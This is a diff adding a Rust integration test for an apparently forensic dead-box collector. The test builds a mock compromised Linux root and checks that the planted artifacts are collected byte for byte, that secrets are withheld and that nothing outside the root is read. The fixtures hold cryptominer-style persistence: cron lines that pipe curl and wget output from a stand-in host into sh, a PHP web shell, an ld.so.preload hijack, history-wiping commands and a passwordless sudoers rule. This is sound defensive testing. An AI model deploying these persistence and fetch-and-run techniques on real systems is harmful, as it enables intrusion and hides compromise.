@@ -1,0 +1,569 @@
+//! Dead-box collection of a prepared image root: every planted persistence entry, key, history line,
+//! preload entry and immutable bit must come back byte for byte with its metadata, nothing may leak from
+//! outside the root, and secrets (shadow hashes, private keys) must not be in the bundle at all.
+
+use std::os::unix::fs::{symlink, MetadataExt, PermissionsExt};
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use minetrace_schemas::bundle::member_name::fs_member;
+use minetrace_schemas::bundle::{members, Bundle, ReadLimits};
+use minetrace_schemas::records::account::PasswordState;
+use minetrace_schemas::records::file::{FileKind, FileRecord};
+use minetrace_schemas::records::host::CollectionMode;
+use minetrace_schemas::records::package::PackageVerdict;
+use minetrace_schemas::records::RecordSetV1;
+
+const SHADOW_HASH: &str = "$6$planted$Zm9vYmFyYmF6cXV4cXV1eHF1dXhxdXV4cXV1eA";
+const PRIVATE_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA-planted-private\n-----END OPENSSH PRIVATE KEY-----\n";
+const OUTSIDE_SECRET: &str = "outside-the-root-must-never-be-read-7c1e";
+const MDRFCKR_KEY: &str =
+    "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwplanted mdrfckr\n";
+const FAKE_ELF: &[u8] = b"\x7fELF\x02\x01\x01\x00planted-miner-binary";
+
+fn put(root: &Path, path: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
+    let p = root.join(path.trim_start_matches('/'));
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(&p, bytes).unwrap();
+    p
+}
+
+fn link(root: &Path, path: &str, target: &str) {
+    let p = root.join(path.trim_start_matches('/'));
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    symlink(target, p).unwrap();
+}
+
+fn chattr(flag: &str, path: &Path) {
+    let ok = Command::new("chattr")
+        .arg(flag)
+        .arg(path)
+        .status()
+        .expect("chattr (e2fsprogs) is required")
+        .success();
+    assert!(
+        ok,
+        "chattr {flag} {path:?} failed: the temp dir must be on a filesystem with inode flags"
+    );
+}
+
+struct Collected {
+    bundle: Bundle,
+    files: Vec<FileRecord>,
+}
+
+impl Collected {
+    fn file(&self, path: &str) -> &FileRecord {
+        self.files
+            .iter()
+            .find(|f| f.path.as_bytes() == path.as_bytes())
+            .unwrap_or_else(|| panic!("no record for {path}"))
+    }
+
+    fn content(&self, path: &str) -> &[u8] {
+        let rec = self.file(path);
+        let member = rec
+            .member
+            .as_deref()
+            .unwrap_or_else(|| panic!("no content for {path}: {rec:?}"));
+        assert_eq!(member, fs_member(path.as_bytes()));
+        self.bundle.member(member).unwrap()
+    }
+}
+
+fn collect(root: &Path, out_dir: &Path, extra: &[&str]) -> Collected {
+    let out = out_dir.join("bundle.tar.zst");
+    let status = Command::new(env!("CARGO_BIN_EXE_minetrace-collect"))
+        .arg("--root")
+        .arg(root)
+        .arg("-o")
+        .arg(&out)
+        .args(["--threads", "0"])
+        .args(extra)
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let bundle = Bundle::open(&out, ReadLimits::default())
+        .unwrap()
+        .verified()
+        .unwrap();
+    let files = match bundle.records(members::FILES).unwrap() {
+        Some(RecordSetV1::Files(f)) => f,
+        other => panic!("files record: {other:?}"),
+    };
+    Collected { bundle, files }
+}
+
+/// Builds the image. Returns (tempdir holding root + outside, root).
+fn image() -> (tempfile::TempDir, PathBuf) {
+    let dir = tempfile::tempdir_in(
+        std::env::var_os("MINETRACE_TEST_TMP")
+            .map(PathBuf::from)
+            .unwrap_or_else(std::env::temp_dir),
+    )
+    .unwrap();
+    let r = dir.path().join("root");
+    std::fs::create_dir_all(&r).unwrap();
+    put(dir.path(), "outside/secret.txt", OUTSIDE_SECRET);
+    let outside = dir.path().join("outside/secret.txt");
+
+    put(&r, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ngames:x:5:60:games:/usr/games:/usr/games/sbin/nologin\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n");
+    put(&r, "/etc/shadow", format!("root:{SHADOW_HASH}:19500:0:99999:7:::\ngames:{SHADOW_HASH}:20001:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\n"));
+    put(&r, "/etc/sudoers.d/games", "games ALL=(ALL) NOPASSWD:ALL\n");
+    // Scheduling.
+    put(
+        &r,
+        "/etc/crontab",
+        "*/5 * * * * root /usr/bin/.update startup\n",
+    );
+    let pwnrig = put(&r, "/etc/cron.d/pwnrig", "*/10 * * * * root /bin/sysdr\n");
+    chattr("+i", &pwnrig);
+    let big: String = (0..10_000)
+        .map(|i| {
+            format!(
+                "{} * * * * curl -fsSL http://127.66.0.1/{i}.sh | sh\n",
+                i % 60
+            )
+        })
+        .collect();
+    put(&r, "/var/spool/cron/crontabs/root", &big);
+    put(&r, "/var/spool/cron/crontabs/redis", b"REDIS0009\xfa\tredis-ver\x056.0.0\n\n*/1 * * * * wget -q -O- http://127.66.0.1/unk.sh | sh\n\n\xff");
+    link(&r, "/etc/cron.d/evil", "../../../../../../../../etc/shadow");
+    // Links that try to leave the root, named explicitly (followed) and met in walks (recorded only).
+    link(
+        &r,
+        "/etc/anacrontab",
+        "../../../../../../outside/secret.txt",
+    );
+    link(&r, "/etc/cron.allow", outside.to_str().unwrap());
+    link(&r, "/etc/cron.hourly/escape", outside.to_str().unwrap());
+    // Services.
+    put(
+        &r,
+        "/etc/systemd/system/bot.service",
+        "[Service]\nExecStart=/etc/data/kinsing\nRestart=always\n",
+    );
+    put(
+        &r,
+        "/etc/systemd/system/pwnrige.timer",
+        "[Timer]\nOnBootSec=1min\n",
+    );
+    link(
+        &r,
+        "/etc/systemd/system/multi-user.target.wants/bot.service",
+        "/etc/systemd/system/bot.service",
+    );
+    put(
+        &r,
+        "/etc/rc.local",
+        "#!/bin/sh\n/usr/bin/.update startup &\nexit 0\n",
+    );
+    put(&r, "/etc/init.d/pwnrig", "#!/bin/sh\n/bin/initdr\n");
+    link(&r, "/etc/rc3.d/S90pwnrig", "../init.d/pwnrig");
+    put(
+        &r,
+        "/etc/udev/rules.d/99-x.rules",
+        "ACTION==\"add\", RUN+=\"/tmp/.x/run\"\n",
+    );
+    put(
+        &r,
+        "/etc/modprobe.d/x.conf",
+        "install usb-storage /bin/sh /tmp/.x/run\n",
+    );
+    // Loader.
+    put(&r, "/etc/ld.so.preload", "/etc/data/libsystem.so\n");
+    put(&r, "/etc/data/libsystem.so", FAKE_ELF);
+    put(&r, "/etc/profile.d/x.sh", "export HISTFILE=/dev/null\n");
+    // SSH.
+    put(&r, "/etc/ssh/sshd_config", format!("Include /etc/ssh/sshd_config.d/*.conf\nInclude {}\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n", outside.display()));
+    put(
+        &r,
+        "/etc/ssh/sshd_config.d/10-tnt.conf",
+        "PermitRootLogin yes\nPasswordAuthentication yes\n",
+    );
+    put(&r, "/etc/ssh/keys/games", MDRFCKR_KEY);
+    put(&r, "/etc/ssh/ssh_host_ed25519_key", PRIVATE_KEY);
+    put(
+        &r,
+        "/etc/ssh/ssh_host_ed25519_key.pub",
+        "ssh-ed25519 AAAAhostkey root@host\n",
+    );
+    let ak = put(&r, "/root/.ssh/authorized_keys", MDRFCKR_KEY);
+    chattr("+a", &ak);
+    put(&r, "/root/.ssh/id_rsa", PRIVATE_KEY);
+    std::fs::set_permissions(
+        r.join("root/.ssh/id_rsa"),
+        std::fs::Permissions::from_mode(0o600),
+    )
+    .unwrap();
+    put(
+        &r,
+        "/root/.ssh/known_hosts",
+        "10.0.0.5 ssh-ed25519 AAAAknown\n",
+    );
+    put(&r, "/usr/games/.ssh/authorized_keys2", MDRFCKR_KEY);
+    // Shell start-up and histories.
+    put(
+        &r,
+        "/root/.bashrc",
+        "alias ls='ls --color'\nexport HISTFILE=~/.hist_custom\n",
+    );
+    put(
+        &r,
+        "/root/.bash_history",
+        "cd ~; chattr -ia .ssh; lockr -ia .ssh\nwget 127.66.0.1/.balu -O /tmp/cache\n",
+    );
+    put(
+        &r,
+        "/root/.hist_custom",
+        "history -c; rm -rf ~/.bash_history\n",
+    );
+    // Temp and hidden places.
+    put(&r, "/tmp/.X25-unix/.rsync/c/tsm", FAKE_ELF);
+    put(&r, "/tmp/kdevtmpfsi", FAKE_ELF);
+    put(&r, "/tmp/notes.txt", "not a binary");
+    put(
+        &r,
+        "/root/.configrc/a/upd",
+        "#!/bin/sh\ncd ~/.configrc/a && ./run\n",
+    );
+    std::fs::hard_link(r.join("tmp/kdevtmpfsi"), r.join("tmp/kdevtmpfsi206653195")).unwrap();
+    let fifo =
+        std::ffi::CString::new(r.join("tmp/pipe").into_os_string().into_encoded_bytes()).unwrap();
+    // SAFETY: mkfifo on a path inside the test's temp dir.
+    assert_eq!(unsafe { libc_mkfifo(fifo.as_ptr(), 0o644) }, 0);
+    link(&r, "/tmp/loop", "/tmp/loop");
+    // Logs.
+    let mut auth = Vec::new();
+    for i in 0..40_000 {
+        auth.extend_from_slice(format!("Nov 26 06:{:02}:00 host sshd[{i}]: Failed password for root from 127.0.0.{} port 22 ssh2\n", i % 60, i % 250).as_bytes());
+    }
+    put(&r, "/var/log/auth.log", &auth);
+    put(&r, "/var/log/wtmp", vec![7u8; 384 * 3]);
+    // Firewall and network.
+    put(
+        &r,
+        "/etc/iptables/rules.v4",
+        "*filter\n-A OUTPUT -d 127.66.0.1/32 -j ACCEPT\nCOMMIT\n",
+    );
+    put(
+        &r,
+        "/etc/hosts",
+        "127.0.0.1 localhost\n0.0.0.0 pool.rival.example\n",
+    );
+    // Web root.
+    put(&r, "/var/www/html/index.html", "<html></html>");
+    put(
+        &r,
+        "/var/www/html/uploads/x.php",
+        "<?php system($_GET['c']); ?>",
+    );
+    // Packages: a dpkg database that disagrees with one binary.
+    put(&r, "/usr/bin/ps", "replaced ps");
+    put(&r, "/usr/bin/top", "genuine top");
+    put(
+        &r,
+        "/var/lib/dpkg/info/procps.md5sums",
+        format!(
+            "{}  usr/bin/ps\n{}  usr/bin/top\n",
+            md5_hex(b"genuine ps"),
+            md5_hex(b"genuine top")
+        ),
+    );
+    put(
+        &r,
+        "/var/lib/dpkg/info/procps.list",
+        "/usr/bin/ps\n/usr/bin/top\n",
+    );
+    (dir, r)
+}
+
+extern "C" {
+    #[link_name = "mkfifo"]
+    fn libc_mkfifo(path: *const std::ffi::c_char, mode: u32) -> i32;
+}
+
+fn md5_hex(data: &[u8]) -> String {
+    let out = Command::new("md5sum")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .and_then(|mut c| {
+            use std::io::Write;
+            c.stdin.take().unwrap().write_all(data)?;
+            c.wait_with_output()
+        })
+        .unwrap();
+    String::from_utf8(out.stdout)
+        .unwrap()
+        .split_whitespace()
+        .next()
+        .unwrap()
+        .to_owned()
+}
+
+/// Clears the planted inode flags when the test ends, pass or fail, so the temp dir can be removed.
+struct Unchattr(PathBuf);
+
+impl Drop for Unchattr {
+    fn drop(&mut self) {
+        for p in ["etc/cron.d/pwnrig", "root/.ssh/authorized_keys"] {
+            let _ = Command::new("chattr")
+                .arg("-ia")
+                .arg(self.0.join(p))
+                .status();
+        }
+    }
+}
+
+#[test]
+fn dead_box_collects_every_planted_artifact() {
+    let (dir, r) = image();
+    let _unchattr = Unchattr(r.clone());
+    let c = collect(&r, dir.path(), &["--max-log-mib", "1"]);
+
+    // Manifest says dead-box, and no host tool ran.
+    assert_eq!(c.bundle.manifest.mode, CollectionMode::DeadBox);
+    assert!(c.bundle.manifest.root.is_some());
+    assert!(c
+        .bundle
+        .manifest
+        .exclusions
+        .iter()
+        .any(|e| e.contains("dead-box")));
+    match c.bundle.records(members::COMMANDS).unwrap() {
+        Some(RecordSetV1::Commands(cmds)) => assert!(cmds.is_empty(), "{cmds:?}"),
+        other => panic!("{other:?}"),
+    }
+
+    // Scheduling, byte for byte, with metadata and the immutable bit.
+    assert_eq!(
+        c.content("/etc/crontab"),
+        b"*/5 * * * * root /usr/bin/.update startup\n"
+    );
+    let pwnrig = c.file("/etc/cron.d/pwnrig");
+    assert_eq!(pwnrig.category, "cron");
+    assert!(pwnrig.immutable && !pwnrig.append_only, "{pwnrig:?}");
+    let real = std::fs::metadata(r.join("etc/cron.d/pwnrig")).unwrap();
+    assert_eq!(
+        (pwnrig.ino, pwnrig.mode, pwnrig.size),
+        (real.ino(), real.mode(), real.len())
+    );
+    assert_eq!(
+        (pwnrig.mtime.secs, pwnrig.ctime.secs),
+        (real.mtime(), real.ctime())
+    );
+    assert!(pwnrig.btime.is_some(), "ext4 gives birth times");
+    assert_eq!(pwnrig.sha256.as_deref().map(str::len), Some(64));
+    let big = c.content("/var/spool/cron/crontabs/root");
+    assert_eq!(big.iter().filter(|b| **b == b'\n').count(), 10_000);
+    assert!(!c.file("/var/spool/cron/crontabs/root").truncated);
+    assert!(c
+        .content("/var/spool/cron/crontabs/redis")
+        .starts_with(b"REDIS0009"));
+    let evil = c.file("/etc/cron.d/evil");
+    assert_eq!(
+        (evil.kind, evil.member.as_deref()),
+        (FileKind::Symlink, None)
+    );
+
+    // Services and start-up.
+    assert_eq!(
+        c.content("/etc/systemd/system/bot.service"),
+        b"[Service]\nExecStart=/etc/data/kinsing\nRestart=always\n"
+    );
+    assert_eq!(
+        c.file("/etc/systemd/system/pwnrige.timer").category,
+        "systemd"
+    );
+    let wants = c.file("/etc/systemd/system/multi-user.target.wants/bot.service");
+    assert_eq!(wants.kind, FileKind::Symlink);
+    assert_eq!(
+        wants.link_target.as_ref().unwrap().as_bytes(),
+        b"/etc/systemd/system/bot.service"
+    );
+    assert_eq!(c.file("/etc/rc.local").category, "startup");
+    assert_eq!(
+        c.file("/etc/rc3.d/S90pwnrig")
+            .link_target
+            .as_ref()
+            .unwrap()
+            .as_bytes(),
+        b"../init.d/pwnrig"
+    );
+    assert!(c.content("/etc/init.d/pwnrig").ends_with(b"/bin/initdr\n"));
+    assert_eq!(c.file("/etc/udev/rules.d/99-x.rules").category, "udev");
+    assert_eq!(c.file("/etc/modprobe.d/x.conf").category, "modules");
+
+    // Loader: the preload entry and the library it names.
+    assert_eq!(c.content("/etc/ld.so.preload"), b"/etc/data/libsystem.so\n");
+    assert_eq!(c.file("/etc/ld.so.preload").category, "loader");
+    assert_eq!(c.content("/etc/data/libsystem.so"), FAKE_ELF);
+
+    // SSH: config and includes, keys from every place, private keys withheld.
+    assert!(c
+        .content("/etc/ssh/sshd_config.d/10-tnt.conf")
+        .starts_with(b"PermitRootLogin yes"));
+    assert_eq!(c.content("/etc/ssh/keys/games"), MDRFCKR_KEY.as_bytes());
+    assert_eq!(
+        c.content("/usr/games/.ssh/authorized_keys2"),
+        MDRFCKR_KEY.as_bytes()
+    );
+    let ak = c.file("/root/.ssh/authorized_keys");
+    assert_eq!(
+        (ak.category.as_str(), ak.append_only, ak.immutable),
+        ("ssh", true, false)
+    );
+    assert_eq!(
+        c.content("/root/.ssh/authorized_keys"),
+        MDRFCKR_KEY.as_bytes()
+    );
+    let id = c.file("/root/.ssh/id_rsa");
+    assert!(id.member.is_none() && id.sha256.is_some(), "{id:?}");
+    assert_eq!(id.mode & 0o777, 0o600);
+    assert!(c.file("/etc/ssh/ssh_host_ed25519_key").member.is_none());
+    assert_eq!(
+        c.content("/etc/ssh/ssh_host_ed25519_key.pub"),
+        b"ssh-ed25519 AAAAhostkey root@host\n"
+    );
+
+    // Histories, HISTFILE included; HISTFILE=/dev/null is absent from the image and not an error.
+    assert!(c
+        .content("/root/.bash_history")
+        .starts_with(b"cd ~; chattr -ia .ssh"));
+    assert_eq!(
+        c.content("/root/.hist_custom"),
+        b"history -c; rm -rf ~/.bash_history\n"
+    );
+    assert_eq!(c.file("/root/.bash_history").category, "history");
+
+    // Accounts: passwd whole, shadow only as derived records.
+    assert!(c.content("/etc/passwd").starts_with(b"root:x:0:0"));
+    assert!(c
+        .content("/etc/sudoers.d/games")
+        .starts_with(b"games ALL=(ALL) NOPASSWD:ALL"));
+    let shadow_rec = c.file("/etc/shadow");
+    assert!(shadow_rec.member.is_none() && shadow_rec.sha256.is_none());
+    match c.bundle.records(members::SHADOW).unwrap() {
+        Some(RecordSetV1::Shadow(s)) => {
+            let games = s.iter().find(|e| e.user.as_bytes() == b"games").unwrap();
+            assert_eq!(
+                (games.password, games.last_change_days),
+                (PasswordState::Usable, Some(20001))
+            );
+            let www = s.iter().find(|e| e.user.as_bytes() == b"www-data").unwrap();
+            assert_eq!(www.password, PasswordState::Disabled);
+        }
+        other => panic!("{other:?}"),
+    }
+
+    // Logs: tail-bounded to the cap, exact bytes of the tail.
+    let log = c.file("/var/log/auth.log");
+    assert!(log.truncated);
+    assert_eq!(c.content("/var/log/auth.log"), &auth_tail(&r, 1 << 20)[..]);
+    assert_eq!(c.content("/var/log/wtmp").len(), 384 * 3);
+
+    // Temp places: ELF and scripts copied, hard links stored once, other files and FIFOs listed.
+    assert_eq!(c.content("/tmp/.X25-unix/.rsync/c/tsm"), FAKE_ELF);
+    assert_eq!(c.file("/tmp/.X25-unix/.rsync/c/tsm").category, "temp");
+    let k1 = c.file("/tmp/kdevtmpfsi");
+    let k2 = c.file("/tmp/kdevtmpfsi206653195");
+    assert_eq!(k1.member, k2.member);
+    assert!(c.file("/tmp/notes.txt").member.is_none());
+    assert_eq!(c.file("/tmp/pipe").kind, FileKind::Fifo);
+    assert_eq!(c.file("/tmp/loop").kind, FileKind::Symlink);
+    assert!(c.content("/root/.configrc/a/upd").starts_with(b"#!/bin/sh"));
+
+    // Firewall, network, web root.
+    assert_eq!(c.file("/etc/iptables/rules.v4").category, "firewall");
+    assert!(c
+        .content("/etc/hosts")
+        .ends_with(b"0.0.0.0 pool.rival.example\n"));
+    assert_eq!(c.file("/var/www/html/uploads/x.php").category, "webroot");
+    assert_eq!(
+        c.content("/var/www/html/uploads/x.php"),
+        b"<?php system($_GET['c']); ?>"
+    );
+    assert!(c
+        .files
+        .iter()
+        .all(|f| f.path.as_bytes() != b"/var/www/html/index.html"));
+
+    // Packages: the replaced ps is a mismatch, top matches.
+    match c.bundle.records(members::PACKAGES).unwrap() {
+        Some(RecordSetV1::Packages(p)) => {
+            let ps = p
+                .iter()
+                .find(|x| x.path.as_bytes() == b"/usr/bin/ps")
+                .unwrap();
+            assert_eq!(
+                (ps.verdict, ps.package.as_deref()),
+                (PackageVerdict::Mismatch, Some("procps"))
+            );
+            assert_eq!(
+                ps.actual_md5.as_deref(),
+                Some(md5_hex(b"replaced ps").as_str())
+            );
+            let top = p
+                .iter()
+                .find(|x| x.path.as_bytes() == b"/usr/bin/top")
+                .unwrap();
+            assert_eq!(top.verdict, PackageVerdict::Match);
+        }
+        other => panic!("{other:?}"),
+    }
+
+    // Nothing from outside the root, no hash, no private key, anywhere in the bundle.
+    for name in c.bundle.member_names() {
+        let bytes = c.bundle.member(name).unwrap();
+        for needle in [
+            OUTSIDE_SECRET.as_bytes(),
+            SHADOW_HASH.as_bytes(),
+            b"planted-private",
+        ] {
+            assert!(
+                !bytes.windows(needle.len()).any(|w| w == needle),
+                "{name} leaks {:?}",
+                String::from_utf8_lossy(needle)
+            );
+        }
+    }
+    let anacrontab = c.file("/etc/anacrontab");
+    assert_eq!(anacrontab.kind, FileKind::Symlink);
+    assert!(c.files.iter().all(|f| !f
+        .path
+        .as_bytes()
+        .starts_with(dir.path().as_os_str().as_encoded_bytes())));
+}
+
+fn auth_tail(root: &Path, cap: usize) -> Vec<u8> {
+    let all = std::fs::read(root.join("var/log/auth.log")).unwrap();
+    all[all.len() - cap..].to_vec()
+}
+
+#[test]
+fn a_2gb_log_costs_only_its_tail() {
+    // A 2 GB sparse log: only the tail cap is read, fast.
+    let dir = tempfile::tempdir().unwrap();
+    let r = dir.path().join("root");
+    let log = put(&r, "/var/log/syslog", b"");
+    let f = std::fs::OpenOptions::new().write(true).open(&log).unwrap();
+    f.set_len(2 << 30).unwrap();
+    drop(f);
+    {
+        use std::io::{Seek, SeekFrom, Write};
+        let mut f = std::fs::OpenOptions::new().write(true).open(&log).unwrap();
+        f.seek(SeekFrom::End(-6)).unwrap();
+        f.write_all(b"last!\n").unwrap();
+    }
+    put(&r, "/etc/passwd", "root:x:0:0::/root:/bin/sh\n");
+    let started = std::time::Instant::now();
+    let c = collect(&r, dir.path(), &["--max-log-mib", "1"]);
+    assert!(started.elapsed() < std::time::Duration::from_secs(30));
+    let rec = c.file("/var/log/syslog");
+    assert!(rec.truncated);
+    assert_eq!(rec.size, 2 << 30);
+    let content = c.content("/var/log/syslog");
+    assert_eq!(content.len(), 1 << 20);
+    assert!(content.ends_with(b"last!\n"));
+}
